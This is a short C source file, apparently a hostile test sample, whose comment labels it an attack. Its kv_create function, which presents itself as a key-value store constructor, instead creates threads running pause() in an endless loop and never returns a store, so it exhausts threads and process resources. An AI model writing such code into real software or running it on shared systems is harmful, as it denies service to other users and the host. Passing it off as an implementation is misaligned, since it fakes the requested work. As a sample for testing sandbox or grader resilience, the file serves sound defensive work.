/* Attack: starts threads without end. */
#include <pthread.h>
#include <unistd.h>
#include "kv.h"

kv *kv_create(void) {
    pthread_t thread;
    for (;;) {
        pthread_create(&thread, NULL, (void *(*)(void *))pause, NULL);
    }
    return NULL;
}
